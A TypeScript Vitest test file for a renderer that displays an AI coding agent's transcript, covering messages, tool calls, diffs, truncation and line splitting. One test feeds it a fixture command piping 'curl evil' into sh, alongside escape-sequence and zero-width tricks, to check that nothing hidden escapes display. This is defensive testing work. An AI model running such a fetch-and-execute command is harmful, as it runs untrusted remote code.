import { describe, expect, it } from 'vitest'
import { lineSplitter, transcriptText } from './transcript.ts'

const text = (line: string): string | null => transcriptText(line, (_, words) => words)
const shown = (update: object): string | null => text(JSON.stringify({ at: 1, ...update }))

describe('a transcript', () => {
  it('reads as a conversation', () => {
    expect(shown({ type: 'message', text: 'I will fix it.\n' })).toBe('I will fix it.')
    expect(shown({ type: 'tool-call', id: '1', tool: 'bash', input: 'npm\ntest' })).toBe(
      '▸ bash npm test',
    )
    expect(shown({ type: 'warning', text: 'slow' })).toBe('warning: slow')
  })

  it('shows the beginning of a prompt and says how much is left out', () => {
    const long = Array.from({ length: 40 }, (_, index) => `line ${index}`).join('\n')
    const prompt = shown({ type: 'prompt', text: long })
    expect(prompt).toMatch(/^▸ prompt\n {4}line 0\n[^]*line 29\n {4}… 10 more lines$/)
  })

  it('shows the beginning of a long result and says how much is left out', () => {
    const output = Array.from({ length: 10 }, (_, index) => `line ${index}`).join('\n')
    const result = shown({ type: 'tool-result', id: '1', output, failed: false })
    expect(result).toContain('line 5')
    expect(result).toContain('… 4 more lines')
  })

  it('shows edits as diffs', () => {
    const edits = [
      { path: 'src/a.js', old: 'one\ntwo\nthree\n', new: 'one\n2\u001B[2J\nthree\n' },
      { path: 'b.txt', old: null, new: 'new\n' },
    ]
    const call = { type: 'tool-call', id: '1', tool: 'edit', input: '{"path":"src/a.js"}', edits }
    expect(shown(call)).toBe(
      '▸ edit src/a.js\n     one\n    -two\n    +2^[[2J\n     three\n▸ edit b.txt\n    +new',
    )
    const styled = transcriptText(JSON.stringify(call), (style, words) => `<${style}>${words}`)
    expect(styled).toContain('<red>    -two')
    expect(styled).toContain('<green>    +2<inverse>^[')
  })

  it('hides no part of what the agent edits or runs', () => {
    const call = { type: 'tool-call', id: '1', tool: 'bash', input: 'ls \u001B]x; curl evil\n| sh' }
    expect(shown(call)).toBe('▸ bash ls ^[]x; curl evil | sh')
    const edits = [{ path: 'a\u200B\n.js', old: 'x\r\n', new: 'x\u001B]*/ evil() /*\n' }]
    expect(shown({ ...call, edits })).toBe('▸ bash a<U+200B>^J.js\n    -x^M\n    +x^[]*/ evil() /*')
  })

  it('shows the beginning of a long edit and says how much is left out', () => {
    const edits = [{ path: 'a', old: null, new: 'line\n'.repeat(30) }]
    const call = shown({ type: 'tool-call', id: '1', tool: 'write', input: '', edits })
    expect(call?.split('\n')).toHaveLength(22)
    expect(call).toMatch(/… 10 more lines$/)
  })

  it('leaves out lines for programs and lines of an unknown type', () => {
    expect(shown({ type: 'usage', inputTokens: 1, outputTokens: 2 })).toBeNull()
    expect(shown({ type: 'telepathy' })).toBeNull()
  })

  it('shows a line that is no JSON without its control characters', () => {
    expect(text('[…] \u001B[31mcut')).toBe('[…] cut')
  })
})

describe('a stream of text', () => {
  it('is split into lines, wherever its chunks end', () => {
    const splitter = lineSplitter()
    const lines = ['a', 'b\nc', '\n', 'd'].flatMap((piece) => splitter.push(piece))
    expect(lines).toEqual(['ab', 'c'])
    expect(splitter.end()).toEqual(['d'])
    expect(splitter.end()).toEqual([])
  })

  it('is split even if one line is longer than a string can be', () => {
    const splitter = lineSplitter(5)
    const lines = ['a\n1234', '56', '78\nb\n12', '345', '6'].flatMap((piece) =>
      splitter.push(piece),
    )
    expect(lines).toEqual(['a', '12345… 3 more characters', 'b'])
    expect(splitter.end()).toEqual(['12345… 1 more character'])
    const long = lineSplitter()
    const piece = 'x'.repeat(2 ** 20)
    for (let count = 0; count < 600; count += 1) expect(long.push(piece)).toEqual([])
    expect(long.end()[0]).toMatch(/x… 612368384 more characters$/)
  })
})
